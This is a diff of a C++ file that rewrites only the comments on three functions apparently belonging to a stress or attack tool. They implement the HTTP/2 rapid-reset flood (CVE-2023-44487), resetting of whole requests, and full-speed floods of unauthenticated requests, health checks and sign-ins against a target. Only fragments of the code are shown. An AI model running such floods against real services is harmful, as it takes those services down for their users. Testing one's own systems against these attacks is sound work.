@@ -86,7 +86,7 @@ std::string OpenAndClose(const Target& target, const Stop& stopping) {
   return "";
 }
 
-// CVE-2023-44487.
+// CVE-2023-44487: opens streams and resets them at full speed.
 std::string ResetStreams(const Target& target, const Stop& stopping) {
   Keep(target, 4, 0, stopping, OnlyPreface, [](Line& line) {
     std::string burst;
@@ -98,7 +98,7 @@ std::string ResetStreams(const Target& target, const Stop& stopping) {
   return "";
 }
 
-// The same with whole calls, which the door may forward before the reset comes.
+// Resets whole calls at full speed. The door may forward such a call before the reset comes.
 std::string ResetCalls(const Target& target, const Stop& stopping) {
   Keep(target, 40, 0, stopping, OnlyPreface, [](Line& line) {
     std::string burst;
@@ -113,7 +113,7 @@ std::string ResetCalls(const Target& target, const Stop& stopping) {
   return "";
 }
 
-// Whole calls at full speed: without a token, to health, and sign-ins.
+// Sends whole calls at full speed: calls without a token, health checks and sign-ins.
 std::string FloodCalls(const Target& target, const Stop& stopping) {
   Keep(target, 40, 0, stopping, OnlyPreface, [](Line& line) {
     std::string burst;
